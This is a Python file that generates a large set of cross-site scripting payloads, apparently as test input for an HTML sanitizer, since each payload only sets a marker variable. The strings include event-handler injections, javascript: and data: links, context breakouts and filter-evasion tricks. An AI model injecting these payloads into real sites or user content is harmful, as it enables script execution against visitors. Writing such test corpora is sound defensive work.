"""A hundred and more ways to smuggle a script into a page, each of which sets `window.hit` where it runs."""

from itertools import product

RUN = "window.hit=1"
CORES = [
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}">',
    f"<script>{RUN}</script>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
]
OPENINGS = [
    '">',
    "'>",
    "-->",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "]]>",
    "</a></p>",
    "`>",
    '\\">',
    "%22>",
]
ELEMENTS = [
    "<audio src=x {}>",
    "<video src=x {}></video>",
    "<video><source {}></video>",
    "<body {}>",
    "<object data=x {}></object>",
    "<embed src=x {}>",
    "<link rel=stylesheet href=x {}>",
    "<marquee {}>甲</marquee>",
    "<style {}></style>",
    "<svg><animate {} dur=1s>",
    "<math><mtext><img src=x {}>",
    "<form><button autofocus {}>甲</button></form>",
    "<select autofocus {}></select>",
    "<a href=# autofocus {}>甲</a>",
    "<IMG SRC=x {}>",
    "<img/src=x/{}>",
    "<img\tsrc=x\n{}>",
    "<img src=x{}//",
    "<img src=x {}",
]
EVENTS = f"onerror={RUN} onload={RUN} onfocus={RUN} onbegin={RUN} onstart={RUN} onloadstart={RUN}"
ADDRESSES = [f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>"]
LINKS = [
    '<a href="{}" id=go>甲</a>',
    "[甲]({})",
    "![甲]({})",
    "<{}>",
    "[甲]: {}",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type=submit></form>',
    '<meta http-equiv=refresh content="0;url={}">',
]
OTHERS = [
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"$$\\href{{javascript:{RUN}}}{{甲}}$$",
    f"<base href=javascript:{RUN}//>",
    f"<style>@import'javascript:{RUN}'</style>",
    f"</p><p onclick={RUN}>甲</p>",
    f"<!--<img src='--><img src=x onerror={RUN}>'>",
]
PAYLOADS = [
    *CORES,
    *(opening + core for opening, core in product(OPENINGS, CORES[:4])),
    *(element.format(EVENTS) for element in ELEMENTS),
    *(link.format(address) for link, address in product(LINKS, ADDRESSES)),
    *OTHERS,
]
